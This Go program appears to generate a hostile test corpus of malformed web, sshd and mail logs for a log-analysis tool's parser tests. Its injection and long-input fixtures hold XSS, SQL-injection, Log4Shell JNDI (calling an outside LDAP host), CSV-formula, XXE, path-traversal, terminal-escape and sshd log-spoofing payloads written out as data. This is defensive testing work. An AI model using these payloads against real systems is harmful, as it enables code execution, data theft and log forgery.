//go:build ignore

// Command gen writes threatmap's hostile corpus, testdata/hostile/: logs
// as an attacker, a crash or a broken disk leaves them. Everything is
// deterministic (fixed seeds), so re-running it gives byte-identical
// files:
//
//	go run testdata/hostile/gen/main.go           # from the repository root
//	go run testdata/hostile/gen/main.go -o DIR    # elsewhere
//
// Inputs too large to commit (a 10 MB line, a million spoofed source
// addresses) are made at test time by loggen.HugeLine and
// loggen.SpoofedIPs. See testdata/hostile/README.md for what each file
// exercises and what tests must assert.
package main

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/threatmap/threatmap/internal/loggen"
)

var rng = rand.New(rand.NewPCG(20261017, 0x686f7374696c65))

const ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"

// access renders one combined line (no newline) at t; the fields are
// written verbatim, so callers choose what is escaped and what is raw.
func access(ip string, t time.Time, req string, status int, size, ref, agent string) string {
	return fmt.Sprintf(`%s - - [%s] "%s" %d %s "%s" "%s"`, ip, t.Format("02/Jan/2006:15:04:05 -0700"), req, status, size, ref, agent)
}

// sshd renders an RFC 3164 sshd line.
func sshd(t time.Time, pid int, msg string) string {
	return fmt.Sprintf("%s shop sshd[%d]: %s", t.Format(time.Stamp), pid, msg)
}

var t0 = time.Date(2026, time.October, 17, 9, 0, 0, 0, time.UTC)

func at(sec int) time.Time { return t0.Add(time.Duration(sec) * time.Second) }

// lines joins with "\n" and ends with a newline.
func lines(ls ...string) []byte { return []byte(strings.Join(ls, "\n") + "\n") }

type file struct {
	name  string
	data  []byte
	notes string
}

var files []file

func add(name, notes string, data []byte) { files = append(files, file{name, data, notes}) }

func main() {
	dir := flag.String("o", "testdata/hostile", "output directory")
	flag.Parse()

	binary()
	nul()
	invalidUTF8()
	crlf()
	mixed()
	add("empty.log", "zero bytes", nil)
	gzips()
	timestamps()
	ipv6()
	ipPort()
	xff()
	injection()
	longUA()

	var total int
	var manifest bytes.Buffer
	cw := csv.NewWriter(&manifest)
	cw.Write([]string{"file", "bytes", "lines", "notes"})
	sort.Slice(files, func(i, j int) bool { return files[i].name < files[j].name })
	for _, f := range files {
		if err := os.WriteFile(filepath.Join(*dir, f.name), f.data, 0o644); err != nil {
			log.Fatal(err)
		}
		total += len(f.data)
		cw.Write([]string{f.name, strconv.Itoa(len(f.data)), strconv.Itoa(countLines(f.name, f.data)), f.notes})
	}
	cw.Flush()
	if err := os.WriteFile(filepath.Join(*dir, "manifest.csv"), manifest.Bytes(), 0o644); err != nil {
		log.Fatal(err)
	}
	if total > 2<<20 {
		log.Fatalf("corpus is %d bytes, over 2 MiB", total)
	}
}

// countLines counts lines as tests must: every "\n" ends one, and a
// non-empty tail without one is one more. A .gz counts its decompressed
// bytes up to where the stream breaks (as compress/gzip gives them; another
// decompressor may deliver a little less of a broken stream), 0 when the
// header is not gzip's.
func countLines(name string, data []byte) int {
	if strings.HasSuffix(name, ".gz") {
		zr, err := gzip.NewReader(bytes.NewReader(data))
		if err != nil {
			return 0
		}
		var out bytes.Buffer
		if _, err := io.Copy(&out, zr); err != nil && !errors.Is(err, io.ErrUnexpectedEOF) {
			log.Fatalf("%s: %v", name, err)
		}
		data = out.Bytes()
	}
	n := bytes.Count(data, []byte{'\n'})
	if len(data) > 0 && data[len(data)-1] != '\n' {
		n++
	}
	return n
}

func randBytes(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return b
}

func binary() {
	add("binary.log", "64 KiB of random bytes: no line is a log line", randBytes(64<<10))
}

func nul() {
	var b bytes.Buffer
	b.Write(lines(
		access("81.2.69.142", at(0), "GET / HTTP/1.1", 200, "11853", "-", ua),
		access("81.2.69.142", at(1), "GET /products/linen-apron\x00.php HTTP/1.1", 404, "196", "-", ua),
		access("81.2.69.142\x00", at(2), "GET / HTTP/1.1", 200, "11853", "-", ua),
		"\x00",
		access("81.2.69.142", at(3), "GET / HTTP/1.1", 200, "11853", "-", "Mozilla/5.0\x00<script>"),
	))
	// A crash leaves a block of NULs where the tail of the file was
	// preallocated, then logging resumes on the same line.
	b.Write(bytes.Repeat([]byte{0}, 4096))
	b.Write(lines(access("79.192.14.71", at(60), "GET /cart HTTP/1.1", 200, "9876", "-", ua)))
	add("nul.log", "NUL bytes inside fields, a NUL-only line, a 4 KiB block of NULs glued to the next line", b.Bytes())
}

func invalidUTF8() {
	add("invalid-utf8.log", "raw invalid UTF-8 (\\xff, truncated and overlong sequences, surrogates) in path, referer, user agent, user field", lines(
		access("90.54.12.8", at(0), "GET /search?q=caf\xe9 HTTP/1.1", 200, "9100", "-", ua),
		access("90.54.12.8", at(1), "GET /\xff\xfe\xfd HTTP/1.1", 404, "196", "https://shop.example.com/\xc3\x28", ua),
		access("90.54.12.8", at(2), "GET /\xc0\xaf\xc0\xafetc/passwd HTTP/1.1", 400, "226", "-", "Mozilla/5.0 \xed\xa0\x80\xed\xbf\xbf"),
		strings.Replace(access("90.54.12.8", at(3), "GET / HTTP/1.1", 200, "11853", "-", "\xf4\x90\x80\x80"), "- - [", "- \xe2\x82 [", 1),
		access("90.54.12.8", at(4), "GET /products/wool-throw-blanket HTTP/1.1", 200, "14033", "-", "Mozilla/5.0 (\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e) valid UTF-8"),
		sshd(at(5), 4100, "Invalid user \xff\xfeadmin from 61.177.172.60 port 41022"),
	))
}

func crlf() {
	ls := []string{
		access("24.5.120.7", at(0), "GET / HTTP/1.1", 200, "11853", "-", ua),
		access("24.5.120.7", at(1), "GET /static/css/site.css HTTP/1.1", 200, "18342", "https://shop.example.com/", ua),
		access("24.5.120.7", at(2), "GET /cart HTTP/1.1", 200, "9876", "https://shop.example.com/", ua),
	}
	add("crlf.log", "Windows line endings on every line", []byte(strings.Join(ls, "\r\n")+"\r\n"))
	add("cr-only.log", "a bare CR in the middle of a line and old-Mac CR line endings (no \\n at all: one line)",
		[]byte(ls[0][:40]+"\r"+ls[0][40:]+"\r"+ls[1]+"\r"+ls[2]+"\r"))
	add("no-final-newline.log", "the last line has no newline", []byte(ls[0]+"\n"+ls[1]))
}

func mixed() {
	add("mixed.log", "combined, common, vhost_combined, sshd, RFC 5424, postfix, dovecot, fail2ban, JSON, CSV and junk interleaved in one file", lines(
		access("66.249.66.1", at(0), "GET /robots.txt HTTP/1.1", 200, "112", "-", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
		sshd(at(1), 5120, "Invalid user oracle from 218.92.0.112 port 50112"),
		`183.136.225.44 - - [17/Oct/2026:09:00:02 +0000] "GET /TP/public/index.php HTTP/1.1" 404 196`,
		`shop.example.com:443 143.198.48.250 - - [17/Oct/2026:09:00:03 +0000] "GET /.env HTTP/1.1" 404 196 "-" "Mozilla/5.0 zgrab/0.x"`,
		`<38>1 2026-10-17T09:00:04.123456+00:00 shop sshd 5121 - - Failed password for root from 218.92.0.112 port 50114 ssh2`,
		t0.Add(5*time.Second).Format(time.Stamp)+` shop postfix/smtpd[21001]: warning: unknown[141.98.10.63]: SASL LOGIN authentication failed: UGFzc3dvcmQ6`,
		t0.Add(6*time.Second).Format(time.Stamp)+` shop dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<info>, method=PLAIN, rip=91.196.176.5, lip=198.51.100.24, TLS, session=<q8Vd0cWkQv2n1yX3>`,
		`2026-10-17 09:00:07,123 fail2ban.actions        [812]: NOTICE  [sshd] Ban 218.92.0.112`,
		`{"time":"2026-10-17T09:00:08Z","remote_addr":"45.55.64.97","request":"GET / HTTP/1.0","status":200}`,
		`time,ip,threat`,
		`2026-10-17T09:00:09Z,45.55.64.97,vuln_scanner`,
		`random junk that is no log format at all`,
		`   `,
		``,
		`-`,
		`"`,
		`[`,
		`2026-10-17T09:00:10+00:00 shop sshd[5122]: Accepted publickey for deploy from 172.16.5.4 port 51000 ssh2: ED25519 SHA256:q8Vd0cWkQv2n1yX3m4ZfJH7bUe6TtLr9sPaKoGiNcEw`,
		access("51.91.13.226", at(11), "GET / HTTP/1.1", 200, "11853", "-", ua),
	))
}

func gzips() {
	var plain bytes.Buffer
	if _, err := loggen.Write(&plain, loggen.Config{Seed: 8, Lines: 2000, Visitors: 500, Attackers: 50,
		Start: t0, Span: 24 * time.Hour}); err != nil {
		log.Fatal(err)
	}
	var z bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&z, gzip.BestCompression)
	zw.Name = "access.log"
	zw.ModTime = t0
	zw.Write(plain.Bytes())
	zw.Close()
	cut := z.Len() * 6 / 10
	add("truncated.log.gz", fmt.Sprintf("gzip of 2,000 generated access lines cut at %d of %d bytes: valid header, part of the stream, no trailer", cut, z.Len()), z.Bytes()[:cut])
	add("header-only.log.gz", "a gzip header (10 bytes) and nothing after it", z.Bytes()[:10])
	add("not-gzip.log.gz", "plain text with a .gz name", lines(access("81.2.69.142", at(0), "GET / HTTP/1.1", 200, "11853", "-", ua)))
	// Two gzip members: a valid one, then a truncated one.
	var two bytes.Buffer
	zw, _ = gzip.NewWriterLevel(&two, gzip.BestCompression)
	zw.ModTime = t0
	zw.Write(lines(access("81.2.69.142", at(0), "GET / HTTP/1.1", 200, "11853", "-", ua)))
	zw.Close()
	two.Write(z.Bytes()[:cut])
	add("multi-member-truncated.log.gz", "a complete gzip member, then a truncated one", two.Bytes())
}

func timestamps() {
	far := func(s string) string {
		return `200.83.1.6 - - [` + s + `] "GET / HTTP/1.1" 200 11853 "-" "` + ua + `"`
	}
	add("timestamps.log", "out of order, year 9999 and 1970, year 0000, impossible dates and zones, a missing timestamp", lines(
		far("17/Oct/2026:09:00:00 +0000"),
		far("17/Oct/2026:08:00:00 +0000"),
		far("31/Dec/9999:23:59:59 +0000"),
		far("01/Jan/1970:00:00:00 +0000"),
		far("31/Dec/1969:23:59:59 -0100"),
		far("01/Jan/0000:00:00:00 +0000"),
		far("30/Feb/2026:12:00:00 +0000"),
		far("17/Foo/2026:09:00:00 +0000"),
		far("17/Oct/2026:25:61:61 +0000"),
		far("17/Oct/2026:09:00:00 +9999"),
		far("17/Oct/2026:09:00:00 +1400"),
		far("17/Oct/2026:09:00:00 -1200"),
		far("17/Oct/2026:09:00:00"),
		far(""),
		far("99999999999999999999"),
		far("17/Oct/2026:09:00:01 +0000"),
	))
	add("timestamps-auth.log", "syslog without a year: New Year rollover, Feb 29 (2026 is no leap year) and Feb 30, days out of order, a bad month and hour, a line with no message", lines(
		"Dec 31 23:59:58 shop sshd[7001]: Invalid user test from 61.177.172.60 port 40001",
		"Jan  1 00:00:01 shop sshd[7002]: Invalid user test from 61.177.172.60 port 40002",
		"Feb 29 12:00:00 shop sshd[7003]: Invalid user test from 61.177.172.60 port 40003",
		"Feb 30 12:00:00 shop sshd[7004]: Invalid user test from 61.177.172.60 port 40004",
		"Oct 17 09:00:00 shop sshd[7005]: Invalid user test from 61.177.172.60 port 40005",
		"Oct 16 09:00:00 shop sshd[7006]: Invalid user test from 61.177.172.60 port 40006",
		"Foo 17 09:00:00 shop sshd[7007]: Invalid user test from 61.177.172.60 port 40007",
		"Oct 17 29:00:00 shop sshd[7008]: Invalid user test from 61.177.172.60 port 40008",
		"Oct 17 09:00:00",
	))
}

func ipv6() {
	a := func(ip string, s int) string {
		return access(ip, at(s), "GET /.env HTTP/1.1", 404, "196", "-", "Mozilla/5.0 zgrab/0.x")
	}
	add("ipv6.log", "IPv6 zone IDs, IPv4-mapped and -compatible IPv6, unusual spellings, and addresses that are not addresses", lines(
		a("fe80::1%eth0", 0),
		a("fe80::1%25eth0", 1),
		a("fe80::dead:beef%en0", 2),
		a("::ffff:45.141.84.57", 3),
		a("::ffff:127.0.0.1", 4),
		a("::ffff:2d8d:5439", 5),
		a("::45.141.84.57", 6),
		a("64:ff9b::2d8d:5439", 7),
		a("2A01:04F8:0C17:3A5F:0000:0000:0000:0001", 8),
		a("2a01:4f8:c17:3a5f::1", 9),
		a("::1", 10),
		a("::", 11),
		a("2001:db8::1", 12),
		a("2001:db8:::1", 13),
		a("256.1.1.1", 14),
		a("1.2.3.4.5", 15),
		a("045.141.084.057", 16),
		a("0x2d.0x8d.0x54.0x39", 17),
		a("758862905", 18),
		a("-", 19),
		a("localhost", 20),
	))
	add("ipv6-auth.log", "sshd lines with an IPv6 zone ID and an IPv4-mapped source", lines(
		sshd(at(0), 8001, "Invalid user admin from fe80::1%eth0 port 50100"),
		sshd(at(1), 8001, "Failed password for invalid user admin from fe80::1%eth0 port 50100 ssh2"),
		sshd(at(2), 8002, "Invalid user admin from ::ffff:61.177.172.60 port 50101"),
		sshd(at(3), 8002, "Failed password for invalid user admin from ::ffff:61.177.172.60 port 50101 ssh2"),
		sshd(at(4), 8003, "Failed password for root from 2a01:4f8:c17:3a5f::1 port 50102 ssh2"),
	))
}

func ipPort() {
	a := func(ip string, s int) string { return access(ip, at(s), "GET / HTTP/1.1", 200, "11853", "-", ua) }
	add("ip-port.log", "client address and port glued together, as some proxies and nginx $remote_addr:$remote_port configs log them", lines(
		a("1.2.3.4:5555", 0),
		a("81.2.69.142:5555", 1),
		a("[2001:db8::1]:443", 2),
		a("[2a01:4f8:c17:3a5f::1]:443", 3),
		a("[::ffff:45.141.84.57]:80", 4),
		a("[fe80::1%eth0]:22", 5),
		a("2a01:4f8:c17:3a5f::1:443", 6), // a valid IPv6 address, not address:port
		a("81.2.69.142:", 7),
		a("81.2.69.142:99999", 8),
		a(":5555", 9),
		a("[81.2.69.142]", 10),
	))
}

func xff() {
	x := func(ip, chain string, s int) string {
		return access(ip, at(s), "GET /.env HTTP/1.1", 404, "196", "-", "Mozilla/5.0 zgrab/0.x") + ` "` + chain + `"`
	}
	long := make([]string, 500)
	for i := range long {
		long[i] = fmt.Sprintf("10.%d.%d.%d", i/65536%256, i/256%256, i%256)
	}
	long[0] = "45.141.84.57"
	add("xff.log", "combined with a trailing X-Forwarded-For field: real chains through a trusted proxy (10.0.0.5) and forged ones from untrusted clients", lines(
		x("10.0.0.5", "143.198.48.250", 0),
		x("10.0.0.5", "143.198.48.250, 10.0.0.4", 1),
		x("10.0.0.5", "127.0.0.1, 143.198.48.250", 2),
		x("10.0.0.5", "-", 3),
		x("10.0.0.5", "", 4),
		x("10.0.0.5", "unknown", 5),
		x("10.0.0.5", "<script>alert(1)</script>", 6),
		x("10.0.0.5", "143.198.48.250:5555", 7),
		x("10.0.0.5", "[2a01:4f8:c17:3a5f::1]:443", 8),
		x("10.0.0.5", "2a01:4f8:c17:3a5f::1", 9),
		x("10.0.0.5", "999.1.1.1", 10),
		x("10.0.0.5", ",,, ,", 11),
		x("10.0.0.5", strings.Join(long, ", "), 12),
		x("45.141.84.57", "66.249.66.1", 13),
		x("45.141.84.57", "127.0.0.1", 14),
		x("45.141.84.57", "10.0.0.5, 66.249.66.1", 15),
		x("45.141.84.57", `1.1.1.1\", \"2.2.2.2`, 16),
	))
}

func injection() {
	const s = "<script>alert(1)</script>"
	add("injection.log", "markup, quotes, template, CSV-formula and terminal-escape payloads in path, referer, user agent and user field", lines(
		access("45.141.84.57", at(0), "GET /"+s+" HTTP/1.1", 404, "196", "-", ua),
		access("45.141.84.57", at(1), "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, "9100", "javascript:alert(1)", ua),
		access("45.141.84.57", at(2), `GET /\"><img src=x onerror=alert(1)> HTTP/1.1`, 404, "196", "-", `\"><svg onload=alert(1)>`),
		access("45.141.84.57", at(3), "GET /products?id=1' OR '1'='1 HTTP/1.1", 400, "226", "-", "'; DROP TABLE events;--"),
		access("45.141.84.57", at(4), "GET / HTTP/1.1", 200, "11853", "-", s),
		access("45.141.84.57", at(5), "GET / HTTP/1.1", 200, "11853", "-", "</text><script>alert(1)</script><text>"),
		access("45.141.84.57", at(6), "GET / HTTP/1.1", 200, "11853", "-", "]]><!ENTITY x SYSTEM \\\"file:///etc/passwd\\\">"),
		access("45.141.84.57", at(7), "GET /${jndi:ldap://45.141.84.57:1389/a} HTTP/1.1", 404, "196", "-", "${jndi:ldap://45.141.84.57:1389/a}"),
		access("45.141.84.57", at(8), "GET /{{7*7}} HTTP/1.1", 404, "196", "-", "{{constructor.constructor('alert(1)')()}}"),
		access("45.141.84.57", at(9), "GET / HTTP/1.1", 200, "11853", "-", "=cmd|' /C calc'!A0"),
		access("45.141.84.57", at(10), "GET / HTTP/1.1", 200, "11853", "-", "@SUM(1+1)*cmd|' /C calc'!A0,\"x\""),
		access("45.141.84.57", at(11), "GET / HTTP/1.1", 200, "11853", "-", "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J"),
		access("45.141.84.57", at(12), "GET / HTTP/1.1", 200, "11853", "-", "line\\nbreak and a raw\rCR"),
		strings.Replace(access("45.141.84.57", at(13), "GET /admin/ HTTP/1.1", 401, "381", "-", ua), "- - [", "- "+s+" [", 1),
		access("45.141.84.57", at(14), "GET / HTTP/1.1", 200, "11853", "-", "&amp;&lt;&#x3C;&#60; %00 %0d%0a"),
	))
	add("injection-auth.log", "ssh and mail user names carrying payloads, and the sshd log-injection trick of a user name that contains \"from <IP> port\"", lines(
		sshd(at(0), 9001, "Invalid user "+s+" from 61.177.172.60 port 42001"),
		sshd(at(1), 9002, `Invalid user "onmouseover=alert(1)// from 61.177.172.60 port 42002`),
		sshd(at(2), 9003, "Invalid user '; DROP TABLE actors;-- from 61.177.172.60 port 42003"),
		sshd(at(3), 9004, "Invalid user \x1b[31madmin\x1b[0m from 61.177.172.60 port 42004"),
		sshd(at(4), 9005, "Failed password for invalid user "+s+" from 61.177.172.60 port 42005 ssh2"),
		sshd(at(5), 9006, "Invalid user admin from 8.8.8.8 port 22 from 45.141.84.57 port 42006"),
		sshd(at(6), 9006, "Failed password for invalid user admin from 8.8.8.8 port 22 from 45.141.84.57 port 42006 ssh2"),
		sshd(at(7), 9007, "Invalid user =cmd|' /C calc'!A0 from 61.177.172.60 port 42007"),
		t0.Add(8*time.Second).Format(time.Stamp)+` shop postfix/smtpd[21002]: warning: unknown[141.98.10.63]: SASL PLAIN authentication failed: (reason unavailable), sasl_username=<script>alert(1)</script>@shop.example.com`,
		t0.Add(9*time.Second).Format(time.Stamp)+` shop dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<"><script>alert(1)</script>>, method=PLAIN, rip=91.196.176.5, lip=198.51.100.24, TLS, session=<q8Vd0cWkQv2n1yX3>`,
	))
}

func longUA() {
	var ls []string
	for i, n := range []int{1 << 10, 8 << 10, 64 << 10, 512 << 10} {
		pad := strings.Repeat("A", n)
		ls = append(ls, access("143.198.48.250", at(i), "GET / HTTP/1.1", 200, "11853", "-", "Mozilla/5.0 "+pad))
	}
	ls = append(ls, access("143.198.48.250", at(10), "GET /"+strings.Repeat("../", 20000)+"etc/passwd HTTP/1.1", 400, "226", "-", ua))
	ls = append(ls, access("81.2.69.142", at(11), "GET / HTTP/1.1", 200, "11853", "-", ua))
	add("long-ua.log", "user agents of 1 KiB, 8 KiB, 64 KiB and 512 KiB, a 60 KB request path, then an ordinary line", lines(ls...))
}
